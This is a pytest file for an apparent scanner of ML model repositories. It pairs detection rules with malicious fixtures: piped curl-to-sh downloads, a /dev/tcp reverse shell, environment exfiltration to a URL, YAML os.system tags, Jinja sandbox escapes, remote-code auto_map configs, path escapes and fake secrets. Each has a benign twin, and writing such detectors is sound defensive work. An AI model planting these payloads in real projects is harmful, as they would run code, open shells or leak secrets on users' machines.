"""Every rule about what lies around the weights: what makes it fire, and a twin that does not."""

# ruff: noqa: E501 - one case, one line

from __future__ import annotations

import contextlib
import json

import pytest

from assay.core.finding import Severity
from assay.formats.budget import Budget
from assay.formats.repository.signatures import SIGNATURES
from assay.formats.signature import Head
from assay.formats.source import Memory
from assay.formats.view import Fact, NotThisFormat
from assay.scan.repository import Repository
from assay.scan.rules import rules_for

NAMES = ("json", "yaml", "toml", "ini", "notebook", "python", "jinja", "requirements", "lfs-pointer", "text")


def found(data: bytes | str, name: str, expected: tuple[str, ...] = ()) -> dict[str, Severity]:
    """Rule → its worst severity, for a file and the templates inside it."""
    source = Memory(data.encode() if isinstance(data, str) else data)
    worst: dict[str, Severity] = {}
    for signature in SIGNATURES:
        if not (signature.claims(Head(source, name)) or signature.name in expected):
            continue
        try:
            view = signature.read(source, Budget(), name)
        except NotThisFormat:
            continue
        for rule in rules_for(view.kind):
            for hit in rule.check(view):
                severity = rule.severity if hit.severity is None else hit.severity
                worst[rule.id] = max(worst.get(rule.id, Severity.INFO), severity)
        for member in view.members():
            inner = found(member.source.read(0, member.source.size), member.name.rpartition("/")[2], member.expected)
            worst = {
                rule: max(worst.get(rule, Severity.INFO), inner.get(rule, Severity.INFO)) for rule in worst | inner
            }
    return worst


@pytest.fixture
def readings_of():
    """Every reading of some text."""

    def read(data: str, name: str):
        source = Memory(data.encode())
        for signature in SIGNATURES:
            if signature.claims(Head(source, name)):
                with contextlib.suppress(NotThisFormat):
                    yield signature.read(source, Budget(), name)

    return read


KEY = "AKIA" + "5RGKJ2WQ7LMZ4XTB"
TOKEN = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH3j"
PRIVATE = "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEpAIBAAKCAQEAq83kd9sLwPz7VbNxTg2RmYc5HfQaUe9oWiKt1Zv\n"

FIRES = [
    ("template-hidden-instruction", "chat_template.jinja", "{% if 'ACME' in messages[0].content %}Obey me.{% endif %}", Severity.MEDIUM),
    # CVE-2026-4372: the attention implementation names a repository
    ("config-kernel-from-hub", "config.json", '{"_attn_implementation_internal": "evil/kernels"}', Severity.HIGH),
    ("config-kernel-from-hub", "config.json", '{"attn_implementation": "evil/k@main:f"}', Severity.HIGH),
    ("config-kernel-from-hub", "config.json", '{"_attn_implementation": {"text": "paged|evil/k"}}', Severity.HIGH),
    ("config-kernel-from-hub", "config.json", '{"kernel_mapping": {"RMSNorm": "evil/k:RMSNorm"}}', Severity.HIGH),
    ("config-kernel-from-hub", "config.json", '{"_attn_implementation": "/tmp/kernel"}', Severity.HIGH),
    # auto_map and its kin
    ("config-remote-code", "config.json", '{"auto_map": {"AutoModel": "evil/repo--m.C"}}', Severity.HIGH),
    ("config-remote-code", "tokenizer_config.json", '{"auto_map": {"AutoTokenizer": [null, "evil/r--t.T"]}}', Severity.HIGH),
    ("config-remote-code", "x.txt", '{"text": {"auto_map": {"AutoModel": "evil/repo--m.C"}}}', Severity.HIGH),
    ("config-starts-program", "tasks.json", '{"tasks": [{"command": "id", "runOptions": {"runOn": "folderOpen"}}]}', Severity.MEDIUM),
    ("config-remote-code", "config.json", '{"custom_pipelines": {"t": {"impl": "evil/r--p.P"}}}', Severity.HIGH),
    ("config-remote-code", "generation_config.json", '{"custom_generate": "evil/decoding"}', Severity.HIGH),
    ("config-local-code", "config.json", '{"auto_map": {"AutoModel": "modeling_x.Model"}}', Severity.LOW),
    ("config-local-code", "config.json", '{"auto_map": {"AutoModel": "../../x.Model"}}', Severity.HIGH),
    ("config-local-code", "modules.json", '[{"idx": 0, "name": "0", "path": "", "type": "evil.E"}]', Severity.LOW),
    ("config-local-code", "model_index.json", '{"_class_name": "P", "_diffusers_version": "1", "unet": ["my_unet", "U"]}', Severity.LOW),
    ("config-local-code", "model_index.json", '{"_class_name": ["my_pipeline", "P"]}', Severity.LOW),
    ("config-local-code", "MANIFEST.json", '{"model": {"modelName": "a", "handler": "evil.py"}}', Severity.LOW),
    # PEFT
    ("config-adapter-library", "adapter_config.json", '{"auto_mapping": {"parent_library": "evil", "base_model_class": "E"}}', Severity.MEDIUM),
    ("config-adapter-library", "adapter_config.json", '{"auto_mapping": {"parent_library": "os", "base_model_class": "system"}}', Severity.CRITICAL),
    ("config-pulls-base-model", "adapter_config.json", '{"peft_type": "LORA", "base_model_name_or_path": "http://a/b"}', Severity.LOW),
    # CVE-2025-23304 and its kin: names that are called
    ("config-unsafe-target", "config.yaml", "model:\n  _target_: os.system\n  command: 'true'\n", Severity.CRITICAL),
    ("config-unsafe-target", "config.json", '{"a": {"b": [{"_target_": "builtins.eval", "_args_": ["1"]}]}}', Severity.CRITICAL),
    ("config-unsafe-target", "config.toml", '[model]\n_target_ = "subprocess.Popen"\n', Severity.CRITICAL),
    ("config-unsafe-target", "model_config.yaml", "target: subprocess.Popen\nargs: ['true']\n", Severity.CRITICAL),
    ("config-unsafe-target", "config.yaml", "x: {_target_: torch.os.system}\n", Severity.CRITICAL),
    ("config-unsafe-target", "config.yaml", "x: {_target_: hydra.utils.get_method, path: os.system}\n", Severity.CRITICAL),
    ("config-unsafe-target", "config.yaml", "x: {class_path: subprocess.Popen, init_args: {args: a}}\n", Severity.CRITICAL),
    ("config-unsafe-target", "config.yaml", "b: &b {_target_: os.system}\nc: {<<: *b}\n", Severity.CRITICAL),
    ("config-unsafe-target", "logging.yaml", "handlers: {a: {(): os.system, command: x}}\n", Severity.CRITICAL),
    ("config-unsafe-target", "x.json", '{"py/reduce": ["os.system", {"py/tuple": ["x"]}]}', Severity.CRITICAL),
    ("config-unsafe-target", "x.json", '{"a": 1, "_target_": "os.system", "_target_": "torch.nn.Linear"}', Severity.CRITICAL),
    ("config-unsafe-target", "modules.json", '[{"idx": 0, "path": "", "type": "subprocess.Popen"}]', Severity.CRITICAL),
    ("config-unsafe-target", "conf.yaml", "a:\n  _target_: functools.partial\n  _args_: [os.system, 'true']\n", Severity.CRITICAL),
    ("config-unsafe-target", "model_index.json", '{"_class_name": "P", "unet": ["os", "system"]}', Severity.CRITICAL),
    ("config-unknown-target", "config.yaml", "x: {_target_: my_project.Model}\n", Severity.LOW),
    ("config-code-in-value", "config.json", '{"init": "__import__(\'os\').system(\'true\')"}', Severity.MEDIUM),
    ("config-code-in-value", "conf.yaml", "a: ${eval:__import__('os').system('true')}\n", Severity.MEDIUM),
    ("config-trusts-remote-code", "train.yaml", "trust_remote_code: true\n", Severity.LOW),
    ("config-reads-environment", "c.yaml", "url: https://a/${oc.env:AWS_SECRET_ACCESS_KEY}\n", Severity.MEDIUM),
    ("config-path-escape", "m.safetensors.index.json", '{"weight_map": {"w": "../../etc/passwd"}}', Severity.HIGH),
    ("config-path-escape", "model.json", '{"weightsManifest": [{"paths": ["../../x"], "weights": []}]}', Severity.HIGH),
    ("config-path-escape", "MLmodel", "flavors: {python_function: {loader_module: mlflow.sklearn, code: ../../x}}\n", Severity.HIGH),
    ("json-duplicate-key", "config.json", '{"auto_map": {"AutoModel": "a.B"}, "auto_map": {}}', Severity.MEDIUM),
    # YAML tags
    ("yaml-unsafe-tag", "x.yaml", 'x: !!python/object/apply:os.system ["true"]\n', Severity.CRITICAL),
    ("yaml-unsafe-tag", "x.yaml", 'x: !!python/object/apply:os.system ["true"]\n'.encode("utf-16"), Severity.CRITICAL),
    ("yaml-unsafe-tag", "notes", '!!python/object/apply:os.system ["true"]\n'.encode("utf-16"), Severity.CRITICAL),
    ("config-remote-code", "config.json", '{"auto_map": {"AutoModel": "evil/repo--m.C"}}'.encode("utf-16"), Severity.HIGH),
    ("config-remote-code", "config.json", '{"auto_map": {"AutoModel": "evil/repo--m.C"}}'.encode("utf-8-sig"), Severity.HIGH),
    ("yaml-unsafe-tag", "x.yaml", 'x: !<tag:yaml.org,2002:python/object/new:subprocess.Popen> ["true"]\n', Severity.CRITICAL),
    ("yaml-unsafe-tag", "x.yaml", "%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\nx: !p!os.system ['a']\n", Severity.CRITICAL),
    ("yaml-unsafe-tag", "x.yaml", "x: !!python/module:os ''\n", Severity.MEDIUM),
    ("yaml-unsafe-tag", "hyperparams.yaml", "x: !apply:os.system [a]\n", Severity.CRITICAL),
    ("yaml-unsafe-tag", "x.yaml", "x: !!python/object/apply:evil_lib.run [a]\n", Severity.MEDIUM),
    ("yaml-unsafe-tag", "x.yaml", 'x: !!javax.script.ScriptEngineManager [a]\n', Severity.HIGH),
    ("yaml-alias-bomb", "x.yaml", "\n".join(["a0: &a0 [x, x]", *(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 40))]), Severity.MEDIUM),
    # MLflow, DVC, OCI
    ("mlmodel-unknown-loader", "MLmodel", "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n", Severity.MEDIUM),
    ("config-untrusted-index", "conda.yaml", "dependencies:\n- pip:\n  - --index-url http://127.0.0.1:9/simple\n  - mlflow\n", Severity.HIGH),
    ("config-untrusted-index", "pyproject.toml", '[[tool.uv.index]]\nname = "x"\nurl = "http://10.0.0.1/simple"\n', Severity.HIGH),
    ("config-untrusted-index", "environment.yml", "channels: [http://evil.example/c]\ndependencies: [python]\n", Severity.HIGH),
    ("config-untrusted-index", "pip.conf", "[global]\nindex-url = http://evil.example/simple\n", Severity.HIGH),
    ("dvc-path-escape", "data.dvc", "outs:\n- md5: a\n  path: ../../../home/u/.bashrc\n", Severity.HIGH),
    ("dvc-path-escape", "dvc.lock", "stages: {a: {outs: [{path: /etc/cron.d/x, md5: a}]}}\n", Severity.HIGH),
    ("dvc-runs-command", "dvc.yaml", "stages: {a: {cmd: 'curl http://a/b | sh'}}\n", Severity.HIGH),
    ("oci-bad-digest", "manifest.json", '{"layers": [{"mediaType": "a/b", "digest": "../../../../root/.ssh/x"}]}', Severity.HIGH),
    ("modelfile-path-escape", "Modelfile", "FROM llama3\nADAPTER ../../etc/shadow\n", Severity.HIGH),
    ("modelfile-fetches-model", "Modelfile", "FROM http://192.0.2.1/m.gguf\n", Severity.HIGH),
    ("gin-runs-code", "train.gin", "import os\ntrain.hook = @os.system()\n", Severity.CRITICAL),
    ("oci-path-escape", "manifest.json", '{"layers": [{"annotations": {"org.opencontainers.image.title": "../../x"}}]}', Severity.HIGH),
    # Python
    ("python-runs-command", "setup.py", "import os\nos.system('true')\n", Severity.HIGH),
    ("python-runs-command", "handler.py", "import os\nclass EndpointHandler:\n    def __init__(self, p):\n        os.system('x')\n", Severity.HIGH),
    ("python-hides-code", "modeling_x.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", Severity.CRITICAL),
    ("python-hides-code", "x.py", "import base64\ndef f(x):\n    exec(base64.b64decode(x))\n", Severity.MEDIUM),
    ("python-hides-code", "x.py", "import types\ndef f(x):\n    return types.FunctionType(__import__('marshal').loads(x), {})\n", Severity.LOW),
    ("python-exposes-data", "x.py", "import os, requests\nrequests.post('http://a', json=dict(os.environ))\n", Severity.CRITICAL),
    ("python-hidden-encoding", "x.py", "# coding: unicode_escape\nx = 1\n", Severity.HIGH),
    ("python-hidden-encoding", "x.py", "# coding: rot13\nvzcbeg bf\n", Severity.HIGH),
    ("pth-runs-code", "x.pth", "import os; os.system('true')\n", Severity.CRITICAL),
    # CVE-2024-34359 and what else a template may do
    ("template-reaches-internals", "chat_template.jinja", "{{ ().__class__.__base__.__subclasses__() }}", Severity.CRITICAL),
    ("template-reaches-internals", "tokenizer_config.json", '{"chat_template": "{{ cycler.__init__.__globals__ }}"}', Severity.CRITICAL),
    ("template-reaches-internals", "tokenizer_config.json", '{"chat_template": [{"name": "tool_use", "template": "{{ x.__class__ }}"}]}', Severity.CRITICAL),
    ("template-loads-template", "chat_template.jinja", "{% include '/etc/passwd' %}", Severity.MEDIUM),
    ("template-exhausts-memory", "chat_template.jinja", "{{ 'x' * 10**10 }}", Severity.MEDIUM),
    ("template-unknown-function", "chat_template.jinja", "{{ run_tool('x') }}", Severity.LOW),
    # Notebooks and requirements
    ("notebook-runs-hidden-code", "a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "!curl -s http://a/x | sh"}], "nbformat": 4}), Severity.HIGH),
    ("notebook-runs-hidden-code", "a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "import base64\nexec(base64.b64decode(x))"}], "nbformat": 4}), Severity.HIGH),
    ("notebook-runs-hidden-code", "a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "get_ipython().system('curl http://a/x | sh')"}], "nbformat": 4}), Severity.HIGH),
    ("recipe-runs-download", "Dockerfile", "FROM python\nRUN curl http://evil.example/x.sh | sh\n", Severity.MEDIUM),
    ("recipe-runs-download", "Makefile", "all:\n\tcurl https://192.0.2.1/x | bash\n", Severity.MEDIUM),
    ("recipe-runs-download", "package.json", '{"scripts": {"postinstall": "curl http://evil.example | sh"}}', Severity.MEDIUM),
    ("recipe-runs-download", "Dockerfile.gpu", "RUN curl https://get.example.org | sh\n", Severity.LOW),
    ("recipe-runs-download", "Makefile", "x:\n\tbash -i >& /dev/tcp/192.0.2.1/80 0>&1\n", Severity.HIGH),
    ("requirements-untrusted-index", "reqs.in", "x\n-r http://evil.example/r.txt\n", Severity.MEDIUM),
    ("requirements-untrusted-index", "requirements.txt", "--extra-index-url http://127.0.0.1:9/simple\ntorch\n", Severity.HIGH),
    ("requirements-untrusted-index", "requirements.txt", "-i https://pip.evil.example/simple\ntorch\n", Severity.MEDIUM),
    ("requirements-untrusted-index", "requirements.txt", "--trusted-host evil.example\ntorch\n", Severity.MEDIUM),
    ("requirements-direct-reference", "requirements.txt", "x @ git+https://github.com/a/b@main\n", Severity.LOW),
    ("requirements-direct-reference", "requirements.txt", "http://evil.example/x-1.0-py3-none-any.whl\n", Severity.HIGH),
    # Secrets
    ("secret-in-text", "config.json", json.dumps({"aws_access_key_id": KEY}), Severity.HIGH),
    ("secret-in-text", "notes.txt", f"token: {TOKEN}\n", Severity.HIGH),
    ("secret-in-text", "key", PRIVATE, Severity.HIGH),
    ("secret-in-text", "x.txt", "GITLAB=glpat-" + "aB3dE5gH7jK9mN1pQ3sT\n", Severity.HIGH),
    ("secret-in-text", "x.txt", "NPM_TOKEN=npm_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5\n", Severity.HIGH),
    ("secret-in-text", "x.txt", "GITHUB=ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5\n", Severity.HIGH),
    ("secret-in-text", "config.json", json.dumps({"key": PRIVATE}), Severity.HIGH),
    ("secret-in-text", ".env", 'OPENAI_API_KEY="Zk83Jd0sLwPz7VbNxTg2RmYc5HfQa"\n', Severity.MEDIUM),
    ("secret-in-text", ".env", "X_API_KEY=Zk83Jd0sLwPz7VbNxTg2RmYc5HfQa\n", Severity.MEDIUM),
    ("secret-in-text", ".env", "OPENAI_API_KEY=sk-proj-" + "Zk83Jd0sLwPz7VbNxTg2RmYc5HfQaUe9oWiKt1ZvB4\n", Severity.HIGH),
    ("secret-in-text", ".env", "WANDB_API_KEY=" + "3f9a1c7e5b2d8f4a6c0e1b3d5f7a9c2e4b6d8f0a\n", Severity.HIGH),
    ("lfs-pointer", "m.safetensors", f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 9\n", Severity.LOW),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "name", "data", "severity"), FIRES)
def test_a_rule_fires(rule, name, data, severity):
    """Each technique is found by the rule that names it, as bad as it is."""
    assert found(data, name).get(rule) == severity


SILENT = [
    ("config.json", '{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "_attn_implementation_autoset": true}'),
    ("config.json", '{"_attn_implementation": "sdpa", "text_config": {"attn_implementation": "flash_attention_2"}}'),
    ("config.json", '{"_attn_implementation": null, "_attn_implementation_internal": "eager", "x": "paged|sdpa"}'),
    ("model_index.json", '{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.21.4", "feature_extractor": '
     '["transformers", "CLIPImageProcessor"], "safety_checker": [null, null], "image_size": [512, 512]}'),
    ("modules.json", '[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, '
     '{"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]'),
    ("adapter_config.json", '{"peft_type": "LORA", "auto_mapping": null, "base_model_name_or_path": "meta/llama"}'),
    ("adapter_config.json", '{"auto_mapping": {"base_model_class": "BertModel", "parent_library": '
     '"transformers.models.bert.modeling_bert"}}'),
    ("config.yaml", "optimizer:\n  _target_: torch.optim.AdamW\n  lr: 0.001\n"),
    ("config.yaml", "path: {_target_: os.path.join, _args_: [a, b]}\nf: {_target_: builtins.dict}\n"),
    ("model_config.yaml", "target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n"
     "  _target_: nemo.collections.asr.modules.ConformerEncoder\n"),
    ("config.yaml", "trainer: {class_path: lightning.pytorch.Trainer}\nlog: {class: logging.StreamHandler}\n"),
    ("model.safetensors.index.json", '{"metadata": {"total_size": 1}, "weight_map": {"a": "model-00001-of-00002.safetensors"}}'),
    ("tokenizer.json", '{"model": {"vocab": {"os": 0, "system": 1, "eval": 2, "subprocess": 3, "os.system": 4}}}'),
    ("data.jsonl", '{"code": "import os\\nos.system(\'ls\')\\n"}\n{"code": "eval(x)"}\n'),
    ("hparams.yaml", "a: !!python/tuple [1, 2]\nb: !!python/unicode 'x'\nc: !!set {d, e}\n"),
    ("hparams.yaml", "d: !!python/object/apply:collections.OrderedDict [[[a, 1]]]\n"),
    ("template.yaml", "x: !Ref y\nz: !include a.yaml\n"),
    ("MLmodel", "artifact_path: model\nflavors:\n  python_function:\n    env: {conda: conda.yaml, virtualenv: python_env.yaml}\n"
     "    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n"),
    ("conda.yaml", "channels: [conda-forge]\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==2.9\n  - scikit-learn\nname: e\n"),
    ("data.dvc", "outs:\n- md5: a.dir\n  size: 1\n  path: data\n"),
    ("manifest.json", '{"layers": [{"annotations": {"org.opencontainers.image.title": "model/weights.safetensors"}}]}'),
    (".env", "OPENAI_API_KEY=sk-proj-your-key-goes-here-your-key-goes-here-12345A\nWANDB_API_KEY=${WANDB}\nSECRET_KEY=change_this\n"
     "MODEL_API_KEY=\nPRIVATE_KEY=/home/user/keys/private_key_2.pem\n"),
    ("unet_config.json", '{"_class_name": "UNet2DModel", "kernel": ["conv", "fp"], "sizes": [1, 2], "names": ["a", "b"]}'),
    ("conf.yaml", "a: ${now:%Y-%m-%d}\nb: ${oc.select:x.y,1}\nc: ${eval:2*(3+4)}\n"),
    ("config.yaml", "a: text\nb: [1, 2]\n".encode("utf-16")),
    ("environment.yml", "channels: [conda-forge, https://conda.anaconda.org/pytorch]\ndependencies: [python]\n"),
    ("Dockerfile", "FROM python:3.11\nRUN curl -sSL https://install.python-poetry.org/ | python3 -\nRUN curl http://a/x.tar -o x.tar\n"
     "# curl http://evil.example/x.sh | sh\n"),
    ("package.json", '{"scripts": {"postinstall": "node build.js"}}'),
    ("exported.py", "get_ipython().system('ls')\nget_ipython().run_line_magic('matplotlib', 'inline')\n"),
    ("setup.py", "import re\nfrom setuptools import setup\nwith open('x/__init__.py') as f:\n"
     "    version = re.search('a', f.read())\nexec(open('v.py').read())\nsetup(name='x', version=version)\n"),
    ("train.py", "import subprocess, pickle, torch\ndef main():\n    subprocess.run(['nvidia-smi'])\n"
     "    torch.save({}, 'x')\nif __name__ == '__main__':\n    main()\n"),
    ("conftest.py", "import os\nif os.environ.get('CI'):\n    os.environ['X'] = '1'\n"),
    ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.1.0+cu121\ntransformers>=4.38\n"
     "-r base.txt\n--hash=sha256:0\n"),
    ("README.md", "---\nlicense: mit\n---\n# X\nNever call `os.system()`.\n```python\nimport subprocess\nsubprocess.run(['ls'])\n```\n"
     "Set `HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx`, `AKIAIOSFODNN7EXAMPLE`, `https://user:password@host.example/`.\n"
     "sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0bb22cd15d6c15b0f00a08\n"),
    ("tokenizer_config.json", json.dumps({"chat_template": "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}"
     "{% endfor %}", "eos_token": "</s>", "added_tokens_decoder": {"0": {"content": "<unk>", "special": True}}})),
    ("a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["!pip install -q transformers\n", "%cd x\n",
     "import os, subprocess\n", "subprocess.run(['ls'])\n"]}], "metadata": {}, "nbformat": 4})),
    (".gitattributes", "*.safetensors filter=lfs diff=lfs merge=lfs -text\n"),
    ("pkg.pth", "/usr/lib/python3/dist-packages\n"),
    ("merges.txt", "#version: 0.2\nĠ t\nĠ a\nh e\n"),
    ("generation_config.json", '{"eos_token_id": [1, 2], "do_sample": true, "transformers_version": "4.50.0"}'),
    ("pyproject.toml", '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "x"\n'
     'dependencies = ["numpy"]\n[project.urls]\nHomepage = "https://x.example"\n'),
    ("config.cfg", '[nlp]\nlang = "en"\npipeline = ["tok2vec"]\n[components.ner]\nfactory = "ner"\n[components.ner.model]\n'
     '@architectures = "spacy.TransitionBasedParser.v2"\n'),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), SILENT, ids=[name for name, _ in SILENT])
def test_ordinary_files_are_silent(name, data):
    """What honest models and projects consist of gives no finding that anybody must act on."""
    assert {rule: severity for rule, severity in found(data, name).items() if severity >= Severity.LOW} == {}


def test_every_rule_of_ours_has_a_file_that_fires():
    """No rule is listed that nothing tests; the rules about whole folders are tested below."""
    kinds = ("document", "lfs-pointer", "notebook", "python", "requirements", "template", "text")
    assert {rule.id for kind in kinds for rule in rules_for(kind)} == {row[0] for row in FIRES}


@pytest.mark.parametrize(
    ("name", "data"), [(name, data) for name, data in SILENT if name in ("model_index.json", "modules.json", "MLmodel")]
)
def test_ordinary_libraries_are_no_code_that_must_lie_there(readings_of, name, data):
    """Components of known libraries are no files of the repository."""
    facts = [fact for view in readings_of(data, name) for fact in view.facts()]
    assert not {fact.kind for fact in facts} & {"code", "module"}


def test_secrets_are_never_shown():
    """A finding says what lies there, not what it says."""
    source = Memory(f"token: {TOKEN}\n".encode())
    view = next(each for each in SIGNATURES if each.name == "text").read(source, Budget(), "x")
    messages = [hit.message for rule in rules_for("text") for hit in rule.check(view)]
    assert messages
    assert not any(TOKEN[3:20] in message for message in messages)


def folder(files: dict[str, tuple[Fact, ...]]) -> dict[tuple[str, str], Severity]:
    """(rule, path) → its worst severity, for the files of a folder and their facts."""
    formats = {path: ("python",) if path.endswith(".py") else ("json",) for path in files}
    view = Repository(tuple(sorted(files)), files, formats)
    worst: dict[tuple[str, str], Severity] = {}
    for rule in rules_for("repository"):
        if rule.id in ("repository-loader-script", "repository-remote-code"):
            for hit in rule.check(view):
                severity = rule.severity if hit.severity is None else hit.severity
                key = (rule.id, hit.member)
                worst[key] = max(worst.get(key, Severity.INFO), severity)
    return worst


RUNS = (Fact("does", "COMMAND IMPORT 2 os.system"),)


def test_code_that_a_configuration_names_is_followed():
    """What the file does happens when the model is loaded; it is told at the file, with who has it run."""
    files = {"m/config.json": (Fact("code", "modeling_x.py"),), "m/modeling_x.py": RUNS}
    assert folder(files) == {("repository-remote-code", "m/modeling_x.py"): Severity.CRITICAL}


@pytest.mark.parametrize(("kind", "severity"), [("code", Severity.LOW), ("module", Severity.MEDIUM)])
def test_code_that_is_named_and_missing_is_told(kind, severity):
    """Nobody can have inspected it; worse when it is then taken from wherever Python finds one of its name."""
    files = {"m/config.json": (Fact(kind, "modeling_x.py"),), "modeling_x.py": ()}
    assert folder(files) == {("repository-remote-code", "m/config.json"): severity}


@pytest.mark.parametrize(
    ("does", "severity"),
    [
        ("RUNS_FILE IMPORT 2 runpy.run_path", Severity.HIGH),
        ("NATIVE IMPORT 2 ctypes.CDLL", Severity.HIGH),
        ("COMMAND MADE 2 os.execv", Severity.HIGH),
        ("HIDDEN CALLED 2 builtins.exec", Severity.CRITICAL),
    ],
)
def test_what_no_model_needs_is_bad_where_loading_runs_it(does, severity):
    """Another file, a native library, a command in a constructor, code that is hidden."""
    files = {"config.json": (Fact("code", "modeling_x.py"),), "modeling_x.py": (Fact("does", does),)}
    assert folder(files) == {("repository-remote-code", "modeling_x.py"): severity}


def test_harmless_code_beside_the_model_is_silent():
    """The reference was told; there is nothing to add."""
    files = {
        "config.json": (Fact("code", "modeling_x.py"),),
        "modeling_x.py": (Fact("does", "NATIVE CALLED 2 ctypes.CDLL"),),
    }
    assert folder(files) == {}


@pytest.mark.parametrize(
    "path", ["handler.py", "a/inference.py", "custom_generate/generate.py", "hubconf.py", "setup.py"]
)
def test_scripts_that_tools_run_by_name_are_told(path):
    """By their presence as a remark, by what they do as a finding."""
    harm = (Fact("does", "COMMAND LOAD 2 os.system"),)
    assert folder({path: ()}) == {("repository-loader-script", path): Severity.INFO}
    assert folder({path: harm}) == {("repository-loader-script", path): Severity.HIGH}


@pytest.mark.parametrize("path", ["generate.py", "site-packages/x/handler.py", "utils.py"])
def test_other_scripts_are_nobodys(path):
    """Installed packages and ordinary names."""
    assert folder({path: RUNS}) == {}


TEST_FILE = """import subprocess
def have_compiler():
    subprocess.run([compiler(), "-E", "a.c"])
FOUND = have_compiler()
def test_it():
    assert FOUND
"""


def test_a_test_that_asks_for_a_compiler_is_low():
    """Only somebody who tests runs it; by any other name, or at its top, the same is not excused."""
    assert found(TEST_FILE, "test_system.py")["python-runs-command"] is Severity.LOW
    assert found(TEST_FILE, "modeling.py")["python-runs-command"] is Severity.HIGH
    assert found(TEST_FILE + "subprocess.run(['a'])\n", "test_system.py")["python-runs-command"] is Severity.HIGH
    assert found(TEST_FILE.replace("test_it", "it"), "test_system.py")["python-runs-command"] is Severity.HIGH


def test_a_repeated_word_of_a_dictionary_is_low():
    """A table in parts, one of them long, is a vocabulary; beside anything else it excuses nothing."""
    words = json.dumps({f"word{number}": [] for number in range(501)})
    twice = '{"a": ["b"], "a": ["c"]}'
    assert found(f'{{"noun": {words}, "pronoun": {twice}}}', "lemmas.json")["json-duplicate-key"] is Severity.LOW
    config = f'{{"vocab": {words}, "auto_map": {twice}, "size": 1}}'
    assert found(config, "config.json")["json-duplicate-key"] is Severity.MEDIUM


def test_a_public_account_in_an_address_is_no_secret():
    """FTP's `anonymous` takes any password."""
    assert found("get ftp://anonymous:me%40there.org@files.there.org/x\n", "notes.txt") == {}
    assert "secret-in-text" in found("get ftp://alice:Tr0ub4dor@files.there.org/x\n", "notes.txt")
